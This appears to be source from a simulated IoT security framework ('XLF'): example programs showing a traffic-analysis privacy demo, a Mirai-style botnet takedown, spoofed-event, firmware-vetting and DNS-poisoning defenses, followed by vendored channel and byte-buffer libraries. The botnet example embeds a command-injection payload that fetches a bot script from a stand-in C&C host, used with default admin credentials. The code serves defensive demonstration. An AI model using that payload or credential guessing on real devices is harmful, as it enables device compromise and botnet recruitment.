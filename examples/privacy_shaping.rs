//! Traffic-shaping privacy demo (§IV-B1): watch a passive observer read a
//! camera's state from encrypted-traffic metadata, then watch shaping
//! blind them — and what the privacy costs in bandwidth and latency.
//!
//! ```sh
//! cargo run --example privacy_shaping
//! ```

use xlf::attacks::TrafficAnalyst;
use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf::core::shaping::ShapingMode;
use xlf::device::SensorKind;
use xlf::simnet::observer::{PacketRecord, RecordingTap};
use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};

/// Alternates the camera between streaming and idle every 30 s.
struct Routine {
    gateway: NodeId,
    phase: u64,
}
impl Node for Routine {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(30), 1);
    }
    fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, _tag: u64) {
        let action = if self.phase.is_multiple_of(2) {
            "stream"
        } else {
            "idle"
        };
        self.phase += 1;
        let cmd = Packet::new(ctx.id(), self.gateway, "cmd", Vec::new())
            .with_meta("device", "cam")
            .with_meta("action", action);
        ctx.send(self.gateway, cmd);
        ctx.set_timer(Duration::from_secs(30), 1);
    }
}

fn trace(seed: u64, mode: ShapingMode) -> (Vec<PacketRecord>, f64, f64) {
    let mut config = XlfConfig::off();
    config.shaping = mode;
    let devices = [
        HomeDevice::new("cam", SensorKind::Camera).with_telemetry_period(Duration::from_secs(5))
    ];
    let mut home = XlfHome::build(seed, config, &devices);
    let driver = home.net.add_node(Box::new(Routine {
        gateway: home.gateway,
        phase: 0,
    }));
    home.net
        .connect(driver, home.gateway, Medium::Wan.link().with_loss(0.0));
    let (gw, cl) = (home.gateway, home.cloud);
    let (tap, records) = RecordingTap::new();
    home.net.add_tap(Box::new(tap));
    home.net.run_until(SimTime::from_secs(600));
    let cost = home.gateway_ref().shaping_cost();
    let filtered = records
        .borrow()
        .iter()
        .filter(|r| r.src == gw && r.dst == cl && r.ground_truth_kind != "event")
        .cloned()
        .collect();
    (
        filtered,
        cost.overhead_ratio(),
        cost.mean_delay().as_secs_f64() * 1000.0,
    )
}

fn main() {
    // The adversary trains on an identical device they own (unshaped).
    let (lab, _, _) = trace(99, ShapingMode::Off);
    let mut analyst = TrafficAnalyst::new();
    analyst.train_bursts(&lab);
    println!("adversary trained on {} lab packets\n", lab.len());

    for (label, mode) in [
        ("no shaping", ShapingMode::Off),
        ("pad to 1 KiB", ShapingMode::PadOnly { bucket: 1024 }),
        (
            "pad + random delay ≤1s",
            ShapingMode::PadAndDelay {
                bucket: 1024,
                max_delay: Duration::from_secs(1),
            },
        ),
    ] {
        let (victim, overhead, delay_ms) = trace(7, mode);
        let inferred = analyst.infer(&victim);
        let accuracy = analyst.accuracy(&victim);
        println!("--- {label} ---");
        println!("  observer classified {} bursts", inferred.len());
        println!("  state-inference accuracy: {:.0}%", accuracy * 100.0);
        println!("  bandwidth overhead: {:.0}%", overhead * 100.0);
        println!("  mean added delay: {delay_ms:.0} ms\n");
    }
    println!(
        "Unshaped, the observer reads the camera like a book; padded and\n\
         paced, idle and streaming become indistinguishable — at a measured\n\
         bandwidth/latency price. That is the §IV-B1 trade."
    );
}
