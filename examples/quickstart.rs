//! Quickstart: build a small smart home, deploy XLF, run it, and read the
//! framework's state.
//!
//! ```sh
//! cargo run --example quickstart
//! ```

use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf::device::SensorKind;
use xlf::simnet::SimTime;

fn main() {
    // 1. Describe the home: a thermostat and a camera.
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature),
        HomeDevice::new("cam", SensorKind::Camera),
    ];

    // 2. Build it with the full cross-layer deployment (every mechanism
    //    on; see XlfConfig for the per-mechanism switches).
    let mut home = XlfHome::build(42, XlfConfig::full(), &devices);

    // 3. Run ten simulated minutes.
    home.net.run_until(SimTime::from_secs(600));

    // 4. Inspect what the framework saw.
    let core = home.core.borrow();
    println!("simulated time : {}", home.net.now());
    println!("packets        : {:?}", home.net.stats());
    println!(
        "gateway        : {} forwarded / {} dropped",
        home.gateway_ref().forwarded,
        home.gateway_ref().dropped
    );
    println!("evidence       : {} records", core.store.len());
    println!("alerts         : {}", core.alerts.alerts().len());
    for alert in core.alerts.alerts() {
        println!(
            "  [{}] {} — {}",
            alert.severity, alert.device, alert.explanation
        );
    }
    println!("\nA benign home stays quiet: no alerts is the expected output.");
}
