//! The headline cross-layer story, end to end: a Mirai-style attacker
//! recruits a weak camera through the gateway; the XLF Core fuses DPI,
//! behavioural, and device-attestation evidence and quarantines the bot
//! before the flood order lands. Run the same attack with XLF off to
//! watch the home fall.
//!
//! ```sh
//! cargo run --example botnet_takedown
//! ```

use xlf::core::alerts::Severity;
use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf::device::{SensorKind, VulnSet, Vulnerability};
use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};

/// The WAN attacker: recruit at t=180 s, order the flood at t=200 s.
struct Attacker {
    gateway: NodeId,
    victim: NodeId,
}

impl Node for Attacker {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(180), 1);
        ctx.set_timer(Duration::from_secs(200), 2);
    }
    fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, tag: u64) {
        match tag {
            1 => {
                println!("[t=180s] attacker: trying default credentials on cam (C&C bootstrap in payload)");
                let login = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "login",
                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("user", "admin")
                .with_meta("pass", "admin");
                ctx.send(self.gateway, login);
            }
            2 => {
                println!("[t=200s] attacker: ordering the flood");
                let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
                    .with_meta("device", "cam")
                    .with_meta("target", &self.victim.raw().to_string())
                    .with_meta("count", "500");
                ctx.send(self.gateway, order);
            }
            _ => {}
        }
    }
}

struct Victim {
    hits: u64,
}
impl Node for Victim {
    fn on_packet(&mut self, _ctx: &mut Context<'_>, packet: Packet) {
        if packet.kind == "ddos" {
            self.hits += 1;
        }
    }
}

fn run(config: XlfConfig, label: &str) {
    println!("\n=== {label} ===");
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature),
        HomeDevice::new("cam", SensorKind::Camera)
            .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword])),
    ];
    let mut home = XlfHome::build(7, config, &devices);
    let victim = home.net.add_node(Box::new(Victim { hits: 0 }));
    home.net
        .connect(victim, home.gateway, Medium::Wan.link().with_loss(0.0));
    let attacker = home.net.add_node(Box::new(Attacker {
        gateway: home.gateway,
        victim,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));

    home.net.run_until(SimTime::from_secs(420));

    let core = home.core.borrow();
    let cam_compromised = home.device_ref("cam").is_compromised();
    let quarantined = home.gateway_ref().nac.is_quarantined("cam");
    let flood_hits = home
        .net
        .node_as::<Victim>(victim)
        .map(|v| v.hits)
        .unwrap_or(0);

    println!("camera compromised : {cam_compromised}");
    println!("camera quarantined : {quarantined}");
    println!("flood packets that reached the victim: {flood_hits}");
    println!("evidence records   : {}", core.store.len());
    for alert in core.alerts.at_least(Severity::Warning) {
        println!(
            "alert [{:?}] {} score={:.2} — {}",
            alert.severity, alert.device, alert.score, alert.explanation
        );
    }
}

fn main() {
    run(XlfConfig::off(), "UNDEFENDED home (XLF off)");
    run(XlfConfig::full(), "home under FULL XLF");
    println!(
        "\nThe undefended run ends with a compromised camera flooding the\n\
         victim; under XLF the recruitment is seen by three layers at once\n\
         and the camera is isolated before the flood escapes the home."
    );
}
