//! A tour of the per-layer mechanisms working on their own substrates:
//! the §IV-C3 spoofed-heat scenario (service layer), gateway OTA vetting
//! (device layer), and hardened DNS under a poisoning attempt (network
//! layer) — each shown with its vulnerable counterpart.
//!
//! ```sh
//! cargo run --example smart_home_defense
//! ```

use xlf::attacks::dnspoison::{poison, Position};
use xlf::cloud::smartapp::{Action, AppPermissions, PermissionModel, Predicate, SmartApp, Trigger};
use xlf::cloud::{Capability, CloudEvent, EventBus, EventPolicy};
use xlf::core::updatevet::UpdateVetter;
use xlf::device::firmware::{FirmwareImage, Version};
use xlf::protocols::dns::{Resolver, ResolverConfig};
use xlf::simnet::SimTime;

fn service_layer_demo() {
    println!("=== Service layer: spoofed-event attack (§IV-C2/C3) ===");
    // The automation: open the window when the thermostat reads > 80 °F.
    let app = SmartApp::new(
        "auto-window",
        AppPermissions::new().grant("window", Capability::Switch),
    )
    .rule(
        Trigger {
            device: "thermo".into(),
            attribute: "temperature".into(),
            predicate: Predicate::GreaterThan(80.0),
        },
        Action {
            device: "window".into(),
            command: "on".into(),
        },
    );
    let spoof = CloudEvent::new(SimTime::ZERO, "thermo", "temperature", "95");

    for (label, policy) in [
        (
            "permissive cloud (SmartThings 2016)",
            EventPolicy::permissive(),
        ),
        ("hardened cloud (event integrity)", EventPolicy::hardened()),
    ] {
        let mut bus = EventBus::new(policy, b"hub secret");
        for (device, attribute) in app.subscriptions() {
            bus.subscribe(&app.name, &device, &attribute, false);
        }
        let delivered = bus.publish(spoof.clone(), Some(Capability::TemperatureMeasurement));
        let fired = delivered
            .map(|_| {
                bus.drain(&app.name)
                    .iter()
                    .flat_map(|e| app.execute(e))
                    .count()
            })
            .unwrap_or(0);
        println!("  {label}: window-open actions fired = {fired}");
    }
    let _ = PermissionModel::Scoped;
}

fn device_layer_demo() {
    println!("\n=== Device layer: OTA vetting at the gateway (§IV-A4) ===");
    let mut vetter = UpdateVetter::new(&[b"BOTNET"]);
    vetter.trust_vendor("acme", b"acme vendor secret");

    let clean = FirmwareImage::signed(
        Version(2, 0, 0),
        "acme",
        b"v2 ok".to_vec(),
        b"acme vendor secret",
    );
    let unsigned = FirmwareImage::unsigned(Version(9, 9, 9), "mallory", b"BOTNET implant".to_vec());

    println!(
        "  vendor-signed clean image : {:?}",
        vetter
            .vet("cam", &clean.to_bytes(), SimTime::ZERO)
            .map(|i| i.version)
    );
    println!(
        "  unsigned BOTNET image     : {:?}",
        vetter.vet("cam", &unsigned.to_bytes(), SimTime::ZERO).err()
    );
}

fn network_layer_demo() {
    println!("\n=== Network layer: DNS cache poisoning (§IV-A3) ===");
    let mut naive = Resolver::new(ResolverConfig::naive());
    let naive_result = poison(
        &mut naive,
        "hub.vendor.example",
        Position::OffPath { attempts: 1 },
        1,
        SimTime::ZERO,
    );
    println!(
        "  naive IoT resolver, 1 blind spoof : poisoned = {}",
        naive_result.poisoned
    );

    let mut hardened = Resolver::new(ResolverConfig::hardened());
    hardened.add_trust_anchor("vendor.example", b"zone secret");
    let hardened_result = poison(
        &mut hardened,
        "hub.vendor.example",
        Position::OnPath,
        1,
        SimTime::ZERO,
    );
    println!(
        "  XLF hardened resolver, on-path    : poisoned = {}",
        hardened_result.poisoned
    );
}

fn main() {
    service_layer_demo();
    device_layer_demo();
    network_layer_demo();
    println!(
        "\nEach layer closes its own hole; the cross-layer Core (see the\n\
         botnet_takedown example) is what catches attacks that no single\n\
         layer can confirm alone."
    );
}
