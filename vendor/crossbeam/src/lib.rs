//! Offline vendored subset of the `crossbeam` API used by the XLF
//! workspace: cloneable MPMC channels (`channel::unbounded` and
//! `channel::bounded`) with disconnect detection, and scoped threads
//! (`thread::scope`, delegating to `std::thread::scope`).

#![forbid(unsafe_code)]

/// Cloneable MPMC channels (the slice of `crossbeam-channel` the
/// evidence bus, sharded DPI, and fleet engine use): unbounded and
/// bounded flavours, blocking `send`/`recv`, and disconnect detection
/// via sender/receiver reference counts.
pub mod channel {
    use std::collections::VecDeque;
    use std::fmt;
    use std::sync::{Arc, Condvar, Mutex};

    struct Inner<T> {
        queue: VecDeque<T>,
        senders: usize,
        receivers: usize,
    }

    struct Shared<T> {
        inner: Mutex<Inner<T>>,
        /// Signalled when a value arrives or the last sender leaves.
        not_empty: Condvar,
        /// Signalled when space frees up or the last receiver leaves.
        not_full: Condvar,
        /// `None` = unbounded.
        cap: Option<usize>,
    }

    /// Error returned by [`Receiver::try_recv`] when the channel is
    /// empty (or disconnected).
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct TryRecvError;

    /// Error returned by [`Receiver::recv`] when the channel is empty
    /// and every sender is gone.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct RecvError;

    /// Error returned when every receiver is gone; carries the value
    /// that could not be delivered.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct SendError<T>(pub T);

    /// Error returned by [`Sender::try_send`]; carries the value that
    /// could not be enqueued.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum TrySendError<T> {
        /// A bounded channel is at capacity.
        Full(T),
        /// Every receiver is gone.
        Disconnected(T),
    }

    /// The sending half (cloneable).
    pub struct Sender<T> {
        shared: Arc<Shared<T>>,
    }

    /// The receiving half (cloneable).
    pub struct Receiver<T> {
        shared: Arc<Shared<T>>,
    }

    impl<T> Clone for Sender<T> {
        fn clone(&self) -> Self {
            self.shared.inner.lock().expect("channel poisoned").senders += 1;
            Sender {
                shared: self.shared.clone(),
            }
        }
    }

    impl<T> Clone for Receiver<T> {
        fn clone(&self) -> Self {
            self.shared
                .inner
                .lock()
                .expect("channel poisoned")
                .receivers += 1;
            Receiver {
                shared: self.shared.clone(),
            }
        }
    }

    impl<T> Drop for Sender<T> {
        fn drop(&mut self) {
            let mut inner = self.shared.inner.lock().expect("channel poisoned");
            inner.senders -= 1;
            if inner.senders == 0 {
                // Wake blocked receivers so they observe the disconnect.
                self.shared.not_empty.notify_all();
            }
        }
    }

    impl<T> Drop for Receiver<T> {
        fn drop(&mut self) {
            let mut inner = self.shared.inner.lock().expect("channel poisoned");
            inner.receivers -= 1;
            if inner.receivers == 0 {
                // Wake blocked senders so they observe the disconnect.
                self.shared.not_full.notify_all();
            }
        }
    }

    impl<T> fmt::Debug for Sender<T> {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("Sender { .. }")
        }
    }

    impl<T> fmt::Debug for Receiver<T> {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("Receiver { .. }")
        }
    }

    fn channel<T>(cap: Option<usize>) -> (Sender<T>, Receiver<T>) {
        let shared = Arc::new(Shared {
            inner: Mutex::new(Inner {
                queue: VecDeque::new(),
                senders: 1,
                receivers: 1,
            }),
            not_empty: Condvar::new(),
            not_full: Condvar::new(),
            cap,
        });
        (
            Sender {
                shared: shared.clone(),
            },
            Receiver { shared },
        )
    }

    /// Creates an unbounded channel.
    pub fn unbounded<T>() -> (Sender<T>, Receiver<T>) {
        channel(None)
    }

    /// Creates a bounded channel: `send` blocks while `cap` values are
    /// pending (backpressure). `cap` must be at least 1 (zero-capacity
    /// rendezvous channels are not part of this subset).
    pub fn bounded<T>(cap: usize) -> (Sender<T>, Receiver<T>) {
        assert!(cap >= 1, "bounded channel capacity must be >= 1");
        channel(Some(cap))
    }

    impl<T> Sender<T> {
        /// Enqueues a value. Blocks while a bounded channel is full;
        /// fails when every receiver is gone.
        pub fn send(&self, value: T) -> Result<(), SendError<T>> {
            let mut inner = self.shared.inner.lock().expect("channel poisoned");
            loop {
                if inner.receivers == 0 {
                    return Err(SendError(value));
                }
                match self.shared.cap {
                    Some(cap) if inner.queue.len() >= cap => {
                        inner = self.shared.not_full.wait(inner).expect("channel poisoned");
                    }
                    _ => break,
                }
            }
            inner.queue.push_back(value);
            self.shared.not_empty.notify_one();
            Ok(())
        }

        /// Enqueues a value without blocking: fails with
        /// [`TrySendError::Full`] when a bounded channel is at capacity
        /// and with [`TrySendError::Disconnected`] when every receiver
        /// is gone.
        pub fn try_send(&self, value: T) -> Result<(), TrySendError<T>> {
            let mut inner = self.shared.inner.lock().expect("channel poisoned");
            if inner.receivers == 0 {
                return Err(TrySendError::Disconnected(value));
            }
            if let Some(cap) = self.shared.cap {
                if inner.queue.len() >= cap {
                    return Err(TrySendError::Full(value));
                }
            }
            inner.queue.push_back(value);
            self.shared.not_empty.notify_one();
            Ok(())
        }

        /// Enqueues a value without blocking, evicting the **oldest**
        /// queued value if a bounded channel is at capacity (shed-oldest:
        /// the newest value always gets in). Returns the evicted value
        /// when one was displaced; fails only when every receiver is
        /// gone.
        pub fn force_send(&self, value: T) -> Result<Option<T>, SendError<T>> {
            let mut inner = self.shared.inner.lock().expect("channel poisoned");
            if inner.receivers == 0 {
                return Err(SendError(value));
            }
            let evicted = match self.shared.cap {
                Some(cap) if inner.queue.len() >= cap => inner.queue.pop_front(),
                _ => None,
            };
            inner.queue.push_back(value);
            self.shared.not_empty.notify_one();
            Ok(evicted)
        }

        /// Number of pending values (snapshot).
        pub fn len(&self) -> usize {
            self.shared
                .inner
                .lock()
                .expect("channel poisoned")
                .queue
                .len()
        }

        /// True when no values are pending.
        pub fn is_empty(&self) -> bool {
            self.len() == 0
        }

        /// The channel capacity (`None` for unbounded).
        pub fn capacity(&self) -> Option<usize> {
            self.shared.cap
        }
    }

    impl<T> Receiver<T> {
        /// Dequeues a value if one is pending.
        pub fn try_recv(&self) -> Result<T, TryRecvError> {
            let mut inner = self.shared.inner.lock().expect("channel poisoned");
            match inner.queue.pop_front() {
                Some(value) => {
                    self.shared.not_full.notify_one();
                    Ok(value)
                }
                None => Err(TryRecvError),
            }
        }

        /// Dequeues a value, blocking until one arrives; fails once the
        /// channel is empty and every sender is gone.
        pub fn recv(&self) -> Result<T, RecvError> {
            let mut inner = self.shared.inner.lock().expect("channel poisoned");
            loop {
                if let Some(value) = inner.queue.pop_front() {
                    self.shared.not_full.notify_one();
                    return Ok(value);
                }
                if inner.senders == 0 {
                    return Err(RecvError);
                }
                inner = self.shared.not_empty.wait(inner).expect("channel poisoned");
            }
        }

        /// Number of pending values (snapshot).
        pub fn len(&self) -> usize {
            self.shared
                .inner
                .lock()
                .expect("channel poisoned")
                .queue
                .len()
        }

        /// True when no values are pending.
        pub fn is_empty(&self) -> bool {
            self.len() == 0
        }
    }
}

/// Scoped threads with the `crossbeam::thread::scope` call shape, backed
/// by `std::thread::scope` (available since Rust 1.63).
pub mod thread {
    /// Handle passed to the scope closure; spawns scoped workers.
    pub struct Scope<'scope, 'env: 'scope> {
        inner: &'scope std::thread::Scope<'scope, 'env>,
    }

    /// A handle to a spawned scoped thread.
    pub struct ScopedJoinHandle<'scope, T> {
        inner: std::thread::ScopedJoinHandle<'scope, T>,
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        /// Spawns a worker inside the scope.
        pub fn spawn<T, F>(&self, f: F) -> ScopedJoinHandle<'scope, T>
        where
            F: FnOnce() -> T + Send + 'scope,
            T: Send + 'scope,
        {
            ScopedJoinHandle {
                inner: self.inner.spawn(f),
            }
        }
    }

    impl<T> ScopedJoinHandle<'_, T> {
        /// Waits for the worker and returns its result.
        pub fn join(self) -> std::thread::Result<T> {
            self.inner.join()
        }
    }

    /// Runs `f` with a scope handle; all spawned workers are joined
    /// before this returns. Always `Ok` (panics propagate like
    /// `std::thread::scope`).
    pub fn scope<'env, F, R>(f: F) -> Result<R, Box<dyn std::any::Any + Send + 'static>>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        Ok(std::thread::scope(|s| f(&Scope { inner: s })))
    }
}

#[cfg(test)]
mod tests {
    use super::channel::{bounded, unbounded, RecvError, SendError, TrySendError};

    #[test]
    fn fifo_and_clone_handles() {
        let (tx, rx) = unbounded();
        let tx2 = tx.clone();
        tx.send(1).unwrap();
        tx2.send(2).unwrap();
        assert_eq!(rx.try_recv(), Ok(1));
        assert_eq!(rx.try_recv(), Ok(2));
        assert!(rx.try_recv().is_err());
    }

    #[test]
    fn send_fails_once_all_receivers_are_gone() {
        let (tx, rx) = unbounded();
        tx.send(1u32).unwrap();
        drop(rx);
        let err = tx.send(2u32).unwrap_err();
        assert_eq!(err.0, 2);
    }

    #[test]
    fn recv_drains_then_reports_disconnect() {
        let (tx, rx) = unbounded();
        tx.send(7u32).unwrap();
        drop(tx);
        assert_eq!(rx.recv(), Ok(7));
        assert_eq!(rx.recv(), Err(RecvError));
    }

    #[test]
    fn cloned_receiver_keeps_channel_alive() {
        let (tx, rx) = unbounded();
        let rx2 = rx.clone();
        drop(rx);
        tx.send(5u32).unwrap();
        assert_eq!(rx2.try_recv(), Ok(5));
    }

    #[test]
    fn bounded_send_blocks_until_space_frees() {
        let (tx, rx) = bounded(1);
        tx.send(1u32).unwrap();
        let unblocked = super::thread::scope(|s| {
            let h = s.spawn(move || {
                // Blocks until the main thread drains the slot.
                tx.send(2u32).unwrap();
                true
            });
            std::thread::sleep(std::time::Duration::from_millis(10));
            assert_eq!(rx.recv(), Ok(1));
            assert_eq!(rx.recv(), Ok(2));
            h.join().unwrap()
        })
        .unwrap();
        assert!(unblocked);
    }

    #[test]
    fn try_send_reports_full_and_disconnected() {
        let (tx, rx) = bounded(1);
        assert_eq!(tx.try_send(1u32), Ok(()));
        assert_eq!(tx.try_send(2u32), Err(TrySendError::Full(2)));
        assert_eq!(rx.try_recv(), Ok(1));
        assert_eq!(tx.try_send(3u32), Ok(()));
        drop(rx);
        assert_eq!(tx.try_send(4u32), Err(TrySendError::Disconnected(4)));
    }

    #[test]
    fn force_send_evicts_the_oldest_when_full() {
        let (tx, rx) = bounded(2);
        assert_eq!(tx.force_send(1u32), Ok(None));
        assert_eq!(tx.force_send(2u32), Ok(None));
        // Full: 1 (the oldest) is displaced, survivors keep FIFO order.
        assert_eq!(tx.force_send(3u32), Ok(Some(1)));
        assert_eq!(rx.try_recv(), Ok(2));
        assert_eq!(rx.try_recv(), Ok(3));
        assert!(rx.try_recv().is_err());
        drop(rx);
        assert_eq!(tx.force_send(4u32), Err(SendError(4)));
    }

    #[test]
    fn force_send_on_unbounded_never_evicts() {
        let (tx, rx) = unbounded();
        for i in 0..100u32 {
            assert_eq!(tx.force_send(i), Ok(None));
        }
        assert_eq!(rx.len(), 100);
        assert_eq!(tx.capacity(), None);
        assert_eq!(bounded::<u32>(7).0.capacity(), Some(7));
    }

    #[test]
    fn blocked_recv_wakes_on_sender_drop() {
        let (tx, rx) = unbounded::<u32>();
        let res = super::thread::scope(|s| {
            let h = s.spawn(move || rx.recv());
            std::thread::sleep(std::time::Duration::from_millis(10));
            drop(tx);
            h.join().unwrap()
        })
        .unwrap();
        assert_eq!(res, Err(RecvError));
    }

    #[test]
    fn mpmc_work_distribution_covers_all_items() {
        let (tx, rx) = unbounded();
        for i in 0..100u64 {
            tx.send(i).unwrap();
        }
        drop(tx);
        let total: u64 = super::thread::scope(|s| {
            let handles: Vec<_> = (0..4)
                .map(|_| {
                    let rx = rx.clone();
                    s.spawn(move || {
                        let mut sum = 0u64;
                        while let Ok(v) = rx.recv() {
                            sum += v;
                        }
                        sum
                    })
                })
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).sum()
        })
        .unwrap();
        assert_eq!(total, 4950);
    }

    #[test]
    fn scoped_threads_join() {
        let data = [1u64, 2, 3, 4];
        let sum: u64 = super::thread::scope(|s| {
            let handles: Vec<_> = data
                .chunks(2)
                .map(|chunk| s.spawn(move || chunk.iter().sum::<u64>()))
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).sum()
        })
        .unwrap();
        assert_eq!(sum, 10);
    }
}
