//! Offline vendored subset of the `crossbeam` API used by the XLF
//! workspace: cloneable MPMC channels (`channel::unbounded`) and scoped
//! threads (`thread::scope`, delegating to `std::thread::scope`).

#![forbid(unsafe_code)]

/// Cloneable unbounded MPMC channel (the slice of `crossbeam-channel`
/// the evidence bus and sharded DPI use).
pub mod channel {
    use std::collections::VecDeque;
    use std::fmt;
    use std::sync::{Arc, Condvar, Mutex};

    struct Shared<T> {
        queue: Mutex<VecDeque<T>>,
        ready: Condvar,
    }

    /// Error returned when the channel is empty (or disconnected).
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct TryRecvError;

    /// Error returned when every receiver is gone.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct SendError<T>(pub T);

    /// The sending half (cloneable).
    pub struct Sender<T> {
        shared: Arc<Shared<T>>,
    }

    /// The receiving half (cloneable).
    pub struct Receiver<T> {
        shared: Arc<Shared<T>>,
    }

    impl<T> Clone for Sender<T> {
        fn clone(&self) -> Self {
            Sender {
                shared: self.shared.clone(),
            }
        }
    }

    impl<T> Clone for Receiver<T> {
        fn clone(&self) -> Self {
            Receiver {
                shared: self.shared.clone(),
            }
        }
    }

    impl<T> fmt::Debug for Sender<T> {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("Sender { .. }")
        }
    }

    impl<T> fmt::Debug for Receiver<T> {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("Receiver { .. }")
        }
    }

    /// Creates an unbounded channel.
    pub fn unbounded<T>() -> (Sender<T>, Receiver<T>) {
        let shared = Arc::new(Shared {
            queue: Mutex::new(VecDeque::new()),
            ready: Condvar::new(),
        });
        (
            Sender {
                shared: shared.clone(),
            },
            Receiver { shared },
        )
    }

    impl<T> Sender<T> {
        /// Enqueues a value (never blocks).
        pub fn send(&self, value: T) -> Result<(), SendError<T>> {
            let mut queue = self.shared.queue.lock().expect("channel poisoned");
            queue.push_back(value);
            self.shared.ready.notify_one();
            Ok(())
        }
    }

    impl<T> Receiver<T> {
        /// Dequeues a value if one is pending.
        pub fn try_recv(&self) -> Result<T, TryRecvError> {
            let mut queue = self.shared.queue.lock().expect("channel poisoned");
            queue.pop_front().ok_or(TryRecvError)
        }

        /// Number of pending values.
        pub fn len(&self) -> usize {
            self.shared.queue.lock().expect("channel poisoned").len()
        }

        /// True when no values are pending.
        pub fn is_empty(&self) -> bool {
            self.len() == 0
        }
    }
}

/// Scoped threads with the `crossbeam::thread::scope` call shape, backed
/// by `std::thread::scope` (available since Rust 1.63).
pub mod thread {
    /// Handle passed to the scope closure; spawns scoped workers.
    pub struct Scope<'scope, 'env: 'scope> {
        inner: &'scope std::thread::Scope<'scope, 'env>,
    }

    /// A handle to a spawned scoped thread.
    pub struct ScopedJoinHandle<'scope, T> {
        inner: std::thread::ScopedJoinHandle<'scope, T>,
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        /// Spawns a worker inside the scope.
        pub fn spawn<T, F>(&self, f: F) -> ScopedJoinHandle<'scope, T>
        where
            F: FnOnce() -> T + Send + 'scope,
            T: Send + 'scope,
        {
            ScopedJoinHandle {
                inner: self.inner.spawn(f),
            }
        }
    }

    impl<T> ScopedJoinHandle<'_, T> {
        /// Waits for the worker and returns its result.
        pub fn join(self) -> std::thread::Result<T> {
            self.inner.join()
        }
    }

    /// Runs `f` with a scope handle; all spawned workers are joined
    /// before this returns. Always `Ok` (panics propagate like
    /// `std::thread::scope`).
    pub fn scope<'env, F, R>(f: F) -> Result<R, Box<dyn std::any::Any + Send + 'static>>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        Ok(std::thread::scope(|s| f(&Scope { inner: s })))
    }
}

#[cfg(test)]
mod tests {
    use super::channel::unbounded;

    #[test]
    fn fifo_and_clone_handles() {
        let (tx, rx) = unbounded();
        let tx2 = tx.clone();
        tx.send(1).unwrap();
        tx2.send(2).unwrap();
        assert_eq!(rx.try_recv(), Ok(1));
        assert_eq!(rx.try_recv(), Ok(2));
        assert!(rx.try_recv().is_err());
    }

    #[test]
    fn scoped_threads_join() {
        let data = [1u64, 2, 3, 4];
        let sum: u64 = super::thread::scope(|s| {
            let handles: Vec<_> = data
                .chunks(2)
                .map(|chunk| s.spawn(move || chunk.iter().sum::<u64>()))
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).sum()
        })
        .unwrap();
        assert_eq!(sum, 10);
    }
}
