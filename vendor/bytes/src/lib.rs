//! Offline vendored subset of the `bytes` crate: a cheaply cloneable,
//! immutable byte buffer. Backed by `Arc<[u8]>` — `clone` is a reference
//! count bump, exactly the property `xlf-simnet` packets rely on.

#![forbid(unsafe_code)]

use std::fmt;
use std::ops::Deref;
use std::sync::Arc;

/// A cheaply cloneable immutable byte buffer.
#[derive(Clone, Default, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Bytes {
    data: Arc<[u8]>,
}

impl Bytes {
    /// Creates an empty buffer.
    pub fn new() -> Self {
        Bytes::default()
    }

    /// Creates a buffer borrowing nothing from a static slice.
    pub fn from_static(data: &'static [u8]) -> Self {
        Bytes { data: data.into() }
    }

    /// Length in bytes.
    pub fn len(&self) -> usize {
        self.data.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// Copies the contents into a fresh `Vec<u8>`.
    pub fn to_vec(&self) -> Vec<u8> {
        self.data.to_vec()
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.data
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        &self.data
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(&self.data, f)
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Self {
        Bytes { data: v.into() }
    }
}

impl From<&[u8]> for Bytes {
    fn from(v: &[u8]) -> Self {
        Bytes { data: v.into() }
    }
}

impl From<String> for Bytes {
    fn from(v: String) -> Self {
        Bytes {
            data: v.into_bytes().into(),
        }
    }
}

impl From<&str> for Bytes {
    fn from(v: &str) -> Self {
        Bytes {
            data: v.as_bytes().into(),
        }
    }
}

